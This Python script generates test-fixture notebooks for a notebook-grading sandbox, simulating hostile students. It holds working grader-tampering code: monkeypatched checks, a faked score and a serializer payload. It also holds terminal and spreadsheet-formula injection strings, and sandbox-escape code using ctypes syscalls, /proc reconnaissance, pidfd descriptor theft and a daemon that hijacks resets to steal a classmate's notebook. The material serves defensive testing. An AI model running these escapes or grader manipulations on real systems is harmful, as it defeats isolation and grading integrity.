"""Regenerate the fixture notebooks: ``python tests/classroom/make_submissions.py``.

``source/tiny.ipynb`` is a two-part instructor notebook; every file in ``submissions/`` is its released
version (``kinbook.classroom.release``) with the answer cells filled in by a (mostly ill-behaved) student.
The files are committed: the tests grade these real notebooks, they do not build them. (Entries that cannot be
committed — links, FIFOs, devices, a 20 MB notebook, ids that clash — are made at test time by conftest.py.)

The hostile students of issue #12 (``ESCAPES``) give the right answers and, in a cell of their own, try to
get out: switch the audit hook off, start processes and interpreters the hook does not see, look around the
file system and /proc, write to the installed package, the source notebook and a classmate's file, leave a
daemon behind. Each records what it achieved in ``probe`` (JSON text): the tests run these cells once more
with the hook off, to show what bubblewrap alone lets them see.
"""

from __future__ import annotations

import copy
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).parent
SOURCE = HERE / "source" / "tiny.ipynb"
OUT = HERE / "submissions"

SETUP = '''import numpy as np
import sympy as sp
import kinbook
from kinbook.classroom import part
mech = kinbook.examples.load("ch13_example1")
x1, y1, phi1, x2, y2, phi2 = list(mech.q)[:6]'''

RIGHT_PHI = "Phi_OA = sp.Matrix([x1 - x2 + sp.cos(phi2), y1 - y2 + sp.sin(phi2)])"
RIGHT_ANGLE = "angle = float(3 * np.pi / 4 + 100 * 0.01)"
WRONG_PHI = "Phi_OA = sp.Matrix([x1 + x2 + sp.cos(phi2), y1 + y2])"
WRONG_ANGLE = "angle = 1.0"


def make_source():
    cells = [
        nbformat.v4.new_markdown_cell("# Tiny exercise (test fixture)\nΦ of revolute joint 1 of example 1, and the "
                                      "crank angle at t = 0.01."),
        nbformat.v4.new_code_cell(SETUP),
        nbformat.v4.new_markdown_cell("**(a)** Φ of revolute joint 1, in `Phi_OA`."),
        nbformat.v4.new_code_cell("### BEGIN SOLUTION\n" + RIGHT_PHI + "\n### END SOLUTION"),
        nbformat.v4.new_code_cell('part("revolute", points=4, answer="Phi_OA", check="phi", target=mech.constraint("1"))'),
        nbformat.v4.new_markdown_cell("**(b)** φ2 at t = 0.01 (radians), in `angle`."),
        nbformat.v4.new_code_cell("### BEGIN SOLUTION\n" + RIGHT_ANGLE + "\n### END SOLUTION"),
        nbformat.v4.new_code_cell(
            "### BEGIN HIDDEN CHECKS\n"
            "q = mech.solve_position(0.01)\n"
            'part("angle", points=2, answer="angle", check="value", expected=q[mech.index("phi2")], angles=True)\n'
            "### END HIDDEN CHECKS"),
    ]
    nb = nbformat.v4.new_notebook(cells=cells)
    for i, c in enumerate(nb.cells):
        c["id"] = f"tiny-{i:02d}"
    nb.metadata["kernelspec"] = {"name": "kinbook", "display_name": "kinbook", "language": "python"}
    SOURCE.parent.mkdir(exist_ok=True)
    nbformat.write(nb, str(SOURCE))


#: file name → (code of answer cell (a), code of answer cell (b), extra code cells appended at the end)
CASES = {
    "good": (RIGHT_PHI, RIGHT_ANGLE, []),
    "wrong": (WRONG_PHI, WRONG_ANGLE, []),
    "partial": (RIGHT_PHI, "# I did not finish\nraise NotImplementedError()", []),
    "loop": (RIGHT_PHI, "while True:\n    pass", []),
    "memory": (RIGHT_PHI, "hog = []\nwhile True:\n    hog.append(np.ones(10**6))", []),
    "sys_exit": (RIGHT_PHI, "import sys\nsys.exit('bye')\n" + RIGHT_ANGLE, []),
    "os_exit": (RIGHT_PHI, "import os\nos._exit(0)\n" + RIGHT_ANGLE, []),
    "kill_kernel": (RIGHT_PHI, "import os, signal\ntry:\n    os.kill(os.getpid(), signal.SIGKILL)\nexcept PermissionError:\n"
                               "    pass\nsignal.raise_signal(signal.SIGKILL)", []),
    "monkeypatch": (WRONG_PHI, WRONG_ANGLE, [
        "import kinbook.grading, kinbook.classroom.parts\n"
        "from kinbook.grading import CheckResult\n"
        "always = lambda *a, **k: CheckResult(True, 1.0, ['perfect'])\n"
        "for name in ['check_phi', 'check_value', 'check_jacobian', 'check_nu', 'check_gamma']:\n"
        "    setattr(kinbook.grading, name, always)\n"
        "kinbook.classroom.parts.Part.run = lambda self, *a, **k: always()"]),
    "patch_serializer": (WRONG_PHI, WRONG_ANGLE, [
        "import kinbook.classroom.serialize as s\n"
        "s.dumps = lambda names, ns: ('{\"answers\": {\"Phi_OA\": {\"kind\": \"sympy\", \"shape\": [1, 1], '\n"
        "                             '\"data\": [[\"__import__\", [\"Symbol\", \"os\"]]]}, \"score\": 6}}')"]),
    "fake_score": (WRONG_PHI, WRONG_ANGLE, [
        "print('Score: 6/6 (100%)')\n"
        "print('{\"answers\": {\"Phi_OA\": {\"kind\": \"array\", \"shape\": [], \"data\": [0]}}}')\n"
        "from IPython.display import display, HTML\ndisplay(HTML('<b>All tests passed</b>'))"]),
    "read_source": (
        "import os, glob, kinbook\n"
        "repo = os.path.dirname(os.path.dirname(kinbook.__file__))\n"
        "stolen = open(os.path.join(repo, 'tests', 'classroom', 'source', 'tiny.ipynb')).read()\n"
        "Phi_OA = sp.Matrix([x1 - x2 + sp.cos(phi2), y1 - y2 + sp.sin(phi2)])",
        "import os\nfound = os.listdir('/')\n" + RIGHT_ANGLE, []),
    "write_outside": (RIGHT_PHI, RIGHT_ANGLE, [
        "import os, shutil\nopen('inside.txt', 'w').write('mine')  # allowed: the temporary copy\n"
        "for attempt in [lambda: open('/tmp/kinbook-evil.txt', 'w').write('pwned'),\n"
        "                lambda: os.remove('/tmp/kinbook-canary.txt'),\n"
        "                lambda: os.rename('/tmp/kinbook-canary.txt', '/tmp/kinbook-moved.txt'),\n"
        "                lambda: shutil.rmtree('/tmp/kinbook-canary-dir'),\n"
        "                lambda: os.system('touch /tmp/kinbook-evil.txt'),\n"
        "                lambda: __import__('subprocess').run(['touch', '/tmp/kinbook-evil.txt']),\n"
        "                lambda: __import__('socket').create_connection(('example.org', 80))]:\n"
        "    try:\n        attempt()\n    except PermissionError as e:\n        print('blocked:', e)\n"
        "raise RuntimeError('still graded: the answers above were assigned')"]),
    # a correct answer taken from kinbook's own reference: full marks, and the instructor is told
    "reference": ("ref = mech.constraint_phi('1')\nPhi_OA = ref", RIGHT_ANGLE, []),
    # answer data made of unevaluated powers (within every per-node cap): ~50 s of grader CPU if evaluated
    # a Φ of 2,000 rows where the joint has 2: each row is compared with each reference row and its variants, which
    # took the grader's checker some 80 s here (about 15 minutes against a mechanism's 12 rows): wrong anyway
    # (rows cheap to build: the kernel's 5 s budget in the tests is for the grader's guard, not for sympy)
    "many_rows": ("Phi_OA = sp.Matrix([x1 + k for k in range(1, 2001)])", RIGHT_ANGLE, []),
    # a flood of output after every answer is assigned: capped in the kernel, then graded (the same verdict on
    # every run: before, one run said "the kernel died", the next "memory", both 0/6)
    "flood": (RIGHT_PHI, RIGHT_ANGLE, ["for i in range(300_000):\n    print('debug line', i)"]),
    # an exception before (b)'s answer: (a) stands, (b) is missing and the message names the cell and exception
    "exception": (RIGHT_PHI, "e0 = np.ones(1)\nangle = np.concatenate([e0, np.ones((2, 2))])", []),
    # text a student controls reaching the gradebook, a spreadsheet and a terminal: escapes that set the window
    # title and overwrite a line, a carriage return starting a row that is a formula, bidirectional controls
    "ansi": (RIGHT_PHI, "raise ValueError('\\x1b]0;pwned\\x07\\x1b[2K\\rok 6/6\\r\\n=cmd|\\' /C calc\\'!A0 \\u202e"
                        "gnp.exe\\u2028next')", []),
    # five children of 300 MB each under a 400 MB budget (refused by the hook here; by the control group, or the
    # no-fork filter, with the hook off: tests/classroom/test_sandbox.py)
    "fork_hog": (RIGHT_PHI, RIGHT_ANGLE, ["""import os, time
kids = []
for k in range(5):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(300 * 2**20)
        for i in range(0, len(hog), 4096):
            hog[i] = 1
        time.sleep(3)
        os._exit(0)
    kids.append(pid)
held = sum(os.waitpid(pid, 0)[1] == 0 for pid in kids)"""]),
    "power_tower": ("big = sp.Integer(10**40)\n"
                    "tower = sp.Pow(big, sp.Pow(big, sp.Pow(big, 99, evaluate=False), evaluate=False), evaluate=False)\n"
                    "Phi_OA = sp.Matrix([tower * x1, tower])", RIGHT_ANGLE, []),
}


#: Shared by the escape fixtures: record an attempt's outcome in `seen` (never raise).
_TRY = """import json, os, sys
seen = {}
def attempt(key, f):
    try:
        seen[key] = f()
    except BaseException as exc:
        seen[key] = "refused: " + type(exc).__name__ + ": " + str(exc)[:150]
"""

ESCAPES = {
    # the hook's helpers were reachable from the frame it raised in: replace their code (issue #12)
    "unhook": """def unhook():
    try:
        open("/etc/hostname")
        return "no hook to switch off"
    except PermissionError as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        frame = tb.tb_frame
        names = sorted(frame.f_locals) + sorted(frame.f_back.f_locals if frame.f_back else [])
        for f in (frame.f_locals.get("refuse"), frame.f_locals.get("inside")):
            if f is not None:
                f.__code__ = (lambda *a: True).__code__
        return "frame locals: " + ",".join(names)[:100]
attempt("unhook", unhook)
attempt("read_etc", lambda: open("/etc/hostname").read()[:40])
""",
    # processes and interpreters the hook does not see, device nodes, FIFOs, raw system calls
    "unaudited": """def fork_exec():
    import _posixsubprocess, subprocess
    return subprocess.run(["/bin/sh", "-c", "id -u; ls /"], capture_output=True, text=True).stdout.split()
def subinterpreter():
    import _xxsubinterpreters as interp
    r, w = os.pipe()
    interp.run_string(interp.create(), "import os\\nos.write(%d, repr(sorted(os.listdir('/'))).encode())" % w)
    os.close(w)
    return os.read(r, 4000).decode()
def ctypes_syscalls():
    import ctypes, errno
    libc = ctypes.CDLL(None, use_errno=True)
    out = {}
    for name, call in [("mount", lambda: libc.mount(b"none", b"/usr", b"tmpfs", 0, None)),
                       ("ptrace_zygote", lambda: libc.ptrace(16, os.getppid(), None, None)),
                       ("setuid0", lambda: libc.setuid(0)),
                       ("unshare_user", lambda: libc.unshare(0x10000000)),
                       # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING): the uid's keyring, shared by sandboxes
                       ("keyctl", lambda: libc.syscall({"x86_64": 250, "aarch64": 219}.get(os.uname().machine, -1),
                                                       0, -4, 0, 0, 0))]:
        rc = call()
        out[name] = "ok" if rc >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    return out
attempt("fork_exec", fork_exec)
attempt("subinterpreter", subinterpreter)
attempt("mknod", lambda: os.mknod(os.path.expanduser("~/null"), 0o20666, os.makedev(1, 3)) or "made")
attempt("mkfifo", lambda: os.mkfifo(os.path.expanduser("~/fifo")) or "made")
attempt("ctypes", ctypes_syscalls)
# memory in a file descriptor: counted by neither the address-space limit nor a directory's size cap
attempt("memfd", lambda: os.write(os.memfd_create("hoard"), b"x" * (1 << 20)) and "made")
""",
    # what is there to see: the file system, /proc, the environment, the network
    "recon": """def walk():
    found, n = [], 0
    skip = {"/proc", "/usr", sys.prefix, sys.base_prefix}  # the Python environment is readable on purpose
    for d, dirs, files in os.walk("/"):
        dirs[:] = [x for x in dirs if os.path.join(d, x) not in skip]
        for f in files + [x + "/" for x in dirs]:
            n += 1
            if f.endswith((".ipynb", ".sqlite", ".csv", "collected/", "graded/")) or "canary" in f:
                found.append(os.path.join(d, f))
        if n > 100000:
            break
    return found
def solutions():
    hits = []
    for path in walk():
        try:
            text = open(path, errors="replace").read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in text or "HIDDEN CHECKS" in text or "do not delete" in text:
            hits.append(path)
    return hits
def processes():
    out = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                out[pid] = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:120]
            except OSError as exc:
                out[pid] = "unreadable"
    return out
def environments():
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                out += [k.split(b"=")[0].decode() for k in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0") if k]
            except OSError:
                pass
    return sorted(set(out))
def network():
    import socket
    out = {}
    for host in ("1.1.1.1", "127.0.0.1"):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((host, 53))
            out[host] = "connected"
        except OSError as exc:
            out[host] = type(exc).__name__
        s.close()
    return out
attempt("notebooks", walk)
attempt("solutions", solutions)
attempt("processes", processes)
attempt("environ", lambda: sorted(os.environ))
attempt("proc_environ", environments)
attempt("network", network)
attempt("uid", os.getuid)
attempt("leftovers", lambda: sorted(os.listdir("/tmp")) + sorted(os.listdir(os.path.expanduser("~")))
        + sorted(os.listdir("/run/kinbook")))
attempt("mounts", lambda: open("/proc/self/mounts").read().count("\\n"))
def dirstate():
    out = {}
    for d in ("/tmp", os.path.expanduser("~"), "/run/kinbook", "/run/kinbook/work"):
        st = os.stat(d)
        try:
            xattrs = sorted(os.listxattr(d))
        except OSError as exc:
            xattrs = "refused: " + exc.strerror
        out[d] = {"atime": st.st_atime_ns, "mtime": st.st_mtime_ns, "mode": oct(st.st_mode & 0o7777), "xattrs": xattrs}
    return out
attempt("dirstate", dirstate)
def pid1():
    out = {}
    for what in ("environ", "cmdline", "status"):
        try:
            out[what] = open("/proc/1/" + what, "rb").read()[:200].decode(errors="replace")
        except OSError as exc:
            out[what] = "refused: " + exc.strerror
    for fd in range(4):
        try:
            with open(f"/proc/1/fd/{fd}", "w") as f:
                f.write("kinbook: ok 11/11\\n")
            out[f"fd{fd}"] = "written"
        except OSError as exc:
            out[f"fd{fd}"] = "refused: " + exc.strerror
    import signal
    try:
        os.kill(1, signal.SIGKILL)
        out["kill"] = "sent"
    except OSError as exc:
        out["kill"] = "refused: " + exc.strerror
    out["comm"] = open("/proc/1/comm").read().strip()
    return out
attempt("pid1", pid1)
""",
    # writes to the installed package, the source notebook, a classmate's file and the canary
    "writes": """import glob
def write(path):
    with open(path, "a") as f:
        f.write("\\n# pwned")
    return "written"
def repo():
    import kinbook
    return os.path.dirname(os.path.dirname(kinbook.__file__))
attempt("package", lambda: write(__import__("kinbook.grading.checks").grading.checks.__file__))
attempt("source", lambda: write(os.path.join(repo(), "tests", "classroom", "source", "tiny.ipynb")))
attempt("classmate", lambda: write(os.path.join(repo(), "tests", "classroom", "submissions", "good.ipynb")))
attempt("collected", lambda: [write(p) for p in glob.glob("/tmp/pytest-of-*/*/*/collected/*.ipynb")] or "none found")
attempt("canary", lambda: write("/tmp/kinbook-canary.txt"))
""",
    # notes left for the next student, and the sandbox's own socket removed (no kernel for the next one)
    "leftovers": """def leave():
    out = []
    for path in ("/tmp/kinbook-note", os.path.expanduser("~/kinbook-note"), "/run/kinbook/kinbook-note"):
        try:
            with open(path, "w") as f:
                f.write("from a classmate")
            out.append(path)
        except OSError as exc:
            out.append(path + ": " + str(exc.strerror))
    return out
attempt("left", leave)
""",
    # state that could outlive a reset without any file: times, extended attributes, modes of the kept directories
    "stamps": """STAMP = 0x7E57_C0DE_1234_5678
def stamp():
    out = {}
    for d in ("/tmp", os.path.expanduser("~"), "/run/kinbook", "/run/kinbook/work"):
        try:
            os.setxattr(d, "user.kinbook-note", b"x" * 4000)
            out[d + " xattr"] = "set"
        except OSError as exc:
            out[d + " xattr"] = "refused: " + exc.strerror
        os.utime(d, ns=(STAMP, STAMP))
        out[d + " times"] = os.stat(d).st_atime_ns
    os.chmod("/run/kinbook", 0o755)
    return out
attempt("stamp", stamp)
""",
    # a second kernel, asked for by the student's own code: the zygote's socket, the launch channel of this run
    # (held by the launcher), or the launcher itself with a guessed descriptor
    "second_kernel": """import socket, subprocess, glob
def socket_paths():
    found = []
    for d in ("/run/kinbook", "/run/kinbook/zygote", "/run/kinbook/work", "/tmp"):
        try:
            found += [os.path.join(d, n) for n in os.listdir(d)]
        except OSError:
            pass
    out = {}
    for path in found:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        try:
            s.connect(path)
            s.sendall(b'{"role": "kernel", "argv": [], "env": {}, "cwd": "/tmp", "umask": 0}')
            out[path] = s.recv(64).decode()
        except OSError as exc:
            out[path] = "refused: " + exc.strerror
    return out or "no socket"
def channel_fds():
    out = {}
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            out[pid] = "refused: " + exc.strerror
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:"):
                try:
                    s = socket.socket(fileno=os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR))
                    s.sendall(b"launch")
                    out[f"{pid}/{fd}"] = s.recv(64).decode()
                except OSError as exc:
                    out[f"{pid}/{fd}"] = "refused: " + exc.strerror
    return out
def own_fds():
    out = {}
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.type == socket.SOCK_SEQPACKET:
                s.sendall(b"launch")
                s.settimeout(2)
                out[fd] = s.recv(64).decode()
        except OSError as exc:
            out[fd] = "refused: " + exc.strerror
        finally:
            s.detach()
    return out
def launcher():
    import kinbook.classroom.sandbox.launch as launch
    out = {}
    for fd in range(3, 12):
        r = subprocess.run([sys.executable, "-I", "-S", launch.__file__, str(fd), "/tmp/pid"], capture_output=True,
                           timeout=20)
        out[fd] = r.returncode
    return out
attempt("socket_paths", socket_paths)
attempt("channel_fds", channel_fds)
attempt("own_fds", own_fds)
attempt("launcher", launcher)
attempt("kernels", lambda: sorted(p for p in os.listdir("/proc") if p.isdigit()
                                   and b"kinbook" in open(f"/proc/{p}/cmdline", "rb").read()))
""",
    # the grader's command and event pipes, taken from bubblewrap's init (pid 1) — reopened through /proc or
    # copied with pidfd_getfd —, and a daemon that answers the next "reset" in the zygote's place, lives on and
    # reads the next student's notebook
    "hijack": """import shutil, signal
def descriptors():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    seen, taken = {}, {}
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                seen[f"{pid}/{fd}"] = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
        pidfd = libc.syscall(434, int(pid), 0)  # pidfd_open, pidfd_getfd: the same numbers on every architecture
        for fd in range(8 if pidfd >= 0 else 0):
            got = libc.syscall(438, pidfd, fd, 0)
            if got >= 0:
                taken[f"{pid}/{fd}"] = os.readlink(f"/proc/self/fd/{got}")
                os.close(got)
    return {"seen": seen, "taken": taken}
def control_pipes():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, 1, 0)
    fds = [libc.syscall(438, pidfd, n, 0) for n in (0, 1)]
    if min(fds) < 0:
        fds = [os.open("/proc/1/fd/0", os.O_RDONLY), os.open("/proc/1/fd/1", os.O_WRONLY)]
    kinds = [os.readlink(f"/proc/self/fd/{fd}") for fd in fds]
    if not all(k.startswith("pipe:") for k in kinds):
        raise PermissionError(f"pid 1 holds no pipes: {kinds}")
    return fds
def hijack():
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                cmd, evt = control_pipes()
                os.write(w, b"taken: %d" % os.getpid())
            except BaseException as exc:
                os.write(w, ("refused: " + type(exc).__name__ + ": " + str(exc)).encode()[:200])
                os._exit(0)
            os.kill(2, signal.SIGSTOP)  # the zygote stops hearing the grader
            os.read(cmd, 64)            # which says "reset"
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) not in (1, 2, os.getpid()):
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.3)
            for d in ("/home/student", "/tmp", "/run/kinbook/work"):
                for name in os.listdir(d):
                    p = os.path.join(d, name)
                    shutil.rmtree(p, ignore_errors=True) if os.path.isdir(p) else os.unlink(p)
            os.write(evt, b"clean\\n")  # in the zygote's place
            select.select([cmd], [], [], 30)
            os.kill(2, signal.SIGCONT)   # which now forks the next student's run
            for _ in range(600):
                time.sleep(0.05)
                try:
                    with open("/home/student/submission.ipynb", "rb") as f, open("/tmp/kinbook-stolen", "wb") as g:
                        g.write(f.read())
                except OSError:
                    pass
            os._exit(0)
        os._exit(0)
    os.close(w)
    os.wait()
    return os.read(r, 300).decode()
import select, time
attempt("descriptors", descriptors)
attempt("hijack", hijack)
""",
    # a daemon in its own session that outlives the notebook, if it can
    "daemon": """def daemon():
    import time
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    with open("/tmp/kinbook-daemon-alive", "w") as f:
                        f.write(str(os.getpid()))
                except OSError:
                    pass
                time.sleep(0.05)
        os._exit(0)
    os.waitpid(pid, 0)
    for _ in range(400):  # until the daemon has written its pid (a busy machine may take seconds)
        time.sleep(0.05)
        try:
            alive = open("/tmp/kinbook-daemon-alive").read()
        except OSError:
            continue
        if alive.isdigit():
            return alive
    return "never wrote its pid"
attempt("daemon", daemon)
""",
}

CASES.update({name: (RIGHT_PHI, RIGHT_ANGLE, [_TRY + code + "probe = json.dumps(seen, default=str)"])
              for name, code in ESCAPES.items()})


def main():
    make_source()
    sys.path.insert(0, str(HERE.parents[1]))
    from kinbook.classroom.notebook import load_source, student_notebook

    released = student_notebook(load_source(SOURCE))
    OUT.mkdir(exist_ok=True)
    answer_ids = [c["id"] for c in released.cells if c.metadata.get("kinbook", {}).get("answer")]
    for name, (a, b, extra) in CASES.items():
        nb = copy.deepcopy(released)
        for c in nb.cells:
            if c["id"] == answer_ids[0]:
                c.source = a
            elif c["id"] == answer_ids[1]:
                c.source = b
        for k, src in enumerate(extra):
            cell = nbformat.v4.new_code_cell(src)
            cell["id"] = f"student-{k}"
            nb.cells.append(cell)
        nbformat.write(nb, str(OUT / f"{name}.ipynb"))
    nb = copy.deepcopy(released)  # tampered: a locked cell edited to make the check pass
    for c in nb.cells:
        if c["id"] == answer_ids[0]:
            c.source = WRONG_PHI
        if "part(\"revolute\"" in c.source:
            c.source = c.source.replace("points=4", "points=400")
    nbformat.write(nb, str(OUT / "tampered.ipynb"))
    nb = copy.deepcopy(released)  # a locked text cell edited (a name in the title): restored, not refused
    nb.cells[0].source = nb.cells[0].source.replace("# Tiny exercise", "# Tiny exercise — by Ana García")
    for c in nb.cells:
        if c["id"] in answer_ids:
            c.source = RIGHT_PHI if c["id"] == answer_ids[0] else RIGHT_ANGLE
    nbformat.write(nb, str(OUT / "edited_title.ipynb"))
    nb = copy.deepcopy(nb)  # a classmate's notebook: its metadata names the student it was released for
    nb.cells[0].source = released.cells[0].source
    nb.metadata["kinbook"]["student"] = "chen.wei"
    nbformat.write(nb, str(OUT / "classmate.ipynb"))
    nb = copy.deepcopy(released)  # a locked cell deleted
    nb.cells = [c for c in nb.cells if "mech = kinbook" not in c.source]
    nbformat.write(nb, str(OUT / "deleted_cell.ipynb"))
    (OUT / "corrupt.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "Phi_OA = 1"', encoding="utf-8")
    (OUT / "not_a_notebook.ipynb").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00 binary garbage")


if __name__ == "__main__":
    main()
